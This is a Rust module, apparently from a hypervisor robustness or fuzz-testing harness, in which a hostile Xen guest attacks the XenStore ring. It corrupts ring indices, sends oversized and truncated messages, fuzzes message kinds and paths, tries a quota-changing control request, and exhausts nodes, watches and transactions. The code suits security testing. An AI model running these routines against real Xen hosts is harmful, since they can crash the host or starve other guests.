//! Attacks on a XenStore ring, for a hostile guest that is served as an unmodified one:
//! Xen `public/io/xs_wire.h`.

use core::cell::Cell;

use crate::target::Target;
use xen_rt::shared::SharedPage;
use xen_rt::{BootInfo, Clock, Port, bare, event};

const REQUEST: usize = 0;
const REQUEST_CONSUMED: usize = 2048;
const REQUEST_PRODUCED: usize = 2052;
const RESPONSE_CONSUMED: usize = 2056;
const RESPONSE_PRODUCED: usize = 2060;
const SIZE: u32 = 1024;

const CONTROL: u32 = 0;
const DIRECTORY: u32 = 1;
const READ: u32 = 2;
const WATCH: u32 = 4;
const TRANSACTION_START: u32 = 6;
const TRANSACTION_END: u32 = 7;
const WRITE: u32 = 11;
const MKDIR: u32 = 12;
const RM: u32 = 13;
const SET_PERMS: u32 = 14;

/// Nanoseconds the host gets for one request.
const PATIENCE: u64 = 20_000_000;
/// After this long a host that takes nothing will never do so.
const LAST_PATIENCE: u64 = 3_000_000_000;

struct Store {
    page: SharedPage,
    port: Port,
    clock: Clock,
    boot: BootInfo,
    /// The host reads no longer.
    alone: Cell<bool>,
}

impl Store {
    fn open(target: &Target) -> Option<Self> {
        if target.page.is_some() {
            return None;
        }
        let (page, port) = bare::store(target.boot)?;
        Some(Self {
            page,
            port,
            clock: Clock::new(target.boot),
            boot: target.boot,
            alone: Cell::new(false),
        })
    }

    fn ring(&self) {
        event::send(self.port);
    }

    /// Lets the host work for `patience` nanoseconds at most, until `done`; answers whether it is.
    fn wait(&self, patience: u64, done: impl Fn(&SharedPage) -> bool) -> bool {
        let end = self.clock.now().saturating_add(patience);
        while !done(&self.page) {
            if self.clock.now() >= end {
                return false;
            }
            event::wait_until(self.boot, self.port, Some(end));
        }
        true
    }

    /// Writes bytes into the ring, dropping all answers; gives up when nobody reads them.
    fn put(&self, bytes: &[u8]) {
        for piece in bytes.chunks(256) {
            let free = |page: &SharedPage| {
                let used = page.load(REQUEST_PRODUCED).wrapping_sub(page.load(REQUEST_CONSUMED));
                used <= SIZE - 256
            };
            self.alone.set(
                self.alone.get()
                    || !self.wait(LAST_PATIENCE, |page| {
                        page.store(RESPONSE_CONSUMED, page.load(RESPONSE_PRODUCED));
                        event::send(self.port);
                        free(page)
                    }),
            );
            if self.alone.get() {
                return;
            }
            let mut position = self.page.load(REQUEST_PRODUCED);
            for &byte in piece {
                self.page.store_byte(REQUEST + (position % SIZE) as usize, byte);
                position = position.wrapping_add(1);
            }
            self.page.store(REQUEST_PRODUCED, position);
            self.ring();
        }
    }

    fn head(&self, kind: u32, transaction: u32, length: u32) {
        let mut head = [0; 16];
        head[..4].copy_from_slice(&kind.to_le_bytes());
        head[8..12].copy_from_slice(&transaction.to_le_bytes());
        head[12..].copy_from_slice(&length.to_le_bytes());
        self.put(&head);
    }

    fn request(&self, kind: u32, transaction: u32, payload: &[u8]) {
        self.head(kind, transaction, u32::try_from(payload.len()).unwrap_or(u32::MAX));
        self.put(payload);
    }
}

/// `prefix`, then the number, then `rest`.
fn numbered(prefix: &[u8], number: u32, rest: &[u8]) -> ([u8; 64], usize) {
    let mut text = [0; 64];
    let digits = number.to_le_bytes().map(|byte| [b'a' + (byte & 15), b'a' + (byte >> 4)]);
    let parts = [prefix, digits.as_flattened(), rest];
    let mut length = 0;
    for part in parts {
        text[length..length + part.len()].copy_from_slice(part);
        length += part.len();
    }
    (text, length)
}

fn many(target: &mut Target, kind: u32, count: u32, prefix: &[u8], rest: &[u8]) -> Option<()> {
    let store = Store::open(target)?;
    for number in 0..count {
        let (text, length) = numbered(prefix, number, rest);
        store.request(kind, 0, &text[..length]);
    }
    Some(())
}

pub(crate) fn index(target: &mut Target) -> Option<()> {
    let store = Store::open(target)?;
    for lie in [1025, 1 << 31, u32::MAX] {
        let page = &store.page;
        page.store(REQUEST_PRODUCED, page.load(REQUEST_CONSUMED).wrapping_add(lie));
        page.store(RESPONSE_CONSUMED, page.load(RESPONSE_PRODUCED).wrapping_add(lie));
        store.ring();
        store.wait(PATIENCE, |_| false);
    }
    Some(())
}

pub(crate) fn long(target: &mut Target) -> Option<()> {
    let store = Store::open(target)?;
    for length in [4097, 1 << 31, u32::MAX] {
        store.head(WRITE, 0, length);
        store.put(&[b'x'; 2000]);
    }
    Some(())
}

pub(crate) fn half(target: &mut Target) -> Option<()> {
    let store = Store::open(target)?;
    store.put(&READ.to_le_bytes());
    store.wait(PATIENCE, |_| false);
    store.put(&[0; 7]);
    store.wait(PATIENCE, |_| false);
    Some(())
}

pub(crate) fn kinds(target: &mut Target) -> Option<()> {
    let store = Store::open(target)?;
    for kind in (0..40).chain([0xffff, u32::MAX]) {
        for payload in [b"".as_slice(), b"\0", b"1\0", b"/\0", b"../..\0", b"no end"] {
            if kind != RM {
                store.request(kind, 0, payload);
            }
        }
    }
    store.request(CONTROL, 0, b"quota\0set\0nodes\x001000000\0");
    Some(())
}

pub(crate) fn paths(target: &mut Target) -> Option<()> {
    let store = Store::open(target)?;
    for path in [
        b"/local/domain/0/name\0x".as_slice(),
        b"/local/domain/1/name\0x",
        b"/vm\0x",
        b"//\0x",
        b"/local/domain/0/backend/vif/0/0/mac\0x",
        b"@releaseDomain\0x",
        b"a/../b\0x",
        b"\xff\xfe\0x",
        b"name/\0x",
    ] {
        for kind in [DIRECTORY, READ, WRITE, MKDIR, RM, SET_PERMS, WATCH] {
            store.request(kind, 0, path);
        }
    }
    Some(())
}

pub(crate) fn nodes(target: &mut Target) -> Option<()> {
    many(target, WRITE, 1500, b"data/", b"\0value")
}

pub(crate) fn watches(target: &mut Target) -> Option<()> {
    many(target, WATCH, 200, b"data/", b"\0token\0")
}

pub(crate) fn transactions(target: &mut Target) -> Option<()> {
    let store = Store::open(target)?;
    (0..50).for_each(|_| store.request(TRANSACTION_START, 0, b"\0"));
    for transaction in 0..50 {
        store.request(WRITE, transaction, b"data/x\0y");
        store.request(TRANSACTION_END, transaction, b"T\0");
    }
    Some(())
}

pub(crate) fn values(target: &mut Target) -> Option<()> {
    let store = Store::open(target)?;
    let mut payload = [b'v'; 4096];
    for number in 0..50_u32 {
        let (text, length) = numbered(b"data/", number, b"\0");
        payload[..length].copy_from_slice(&text[..length]);
        store.request(WRITE, 0, &payload);
    }
    Some(())
}

pub(crate) fn deep(target: &mut Target) -> Option<()> {
    let store = Store::open(target)?;
    let mut path = [b'/'; 3072];
    path.iter_mut().skip(1).step_by(2).for_each(|byte| *byte = b'd');
    path[..2].copy_from_slice(b"da");
    path[3070..].copy_from_slice(b"d\0");
    store.request(WRITE, 0, &path);
    store.request(MKDIR, 0, &path[1..1500]);
    Some(())
}

/// Requests as fast as they go, with nobody reading the answers.
pub(crate) fn deaf(target: &mut Target) -> Option<()> {
    let store = Store::open(target)?;
    let page = &store.page;
    for _ in 0..2000 {
        let position = page.load(REQUEST_PRODUCED);
        if position.wrapping_sub(page.load(REQUEST_CONSUMED)) <= SIZE - 16 {
            (0..16).for_each(|at| {
                let index = (position.wrapping_add(at) % SIZE) as usize;
                page.store_byte(REQUEST + index, if at == 0 { 1 } else { 0 });
            });
            page.store(REQUEST_PRODUCED, position.wrapping_add(16));
        }
        store.ring();
    }
    Some(())
}
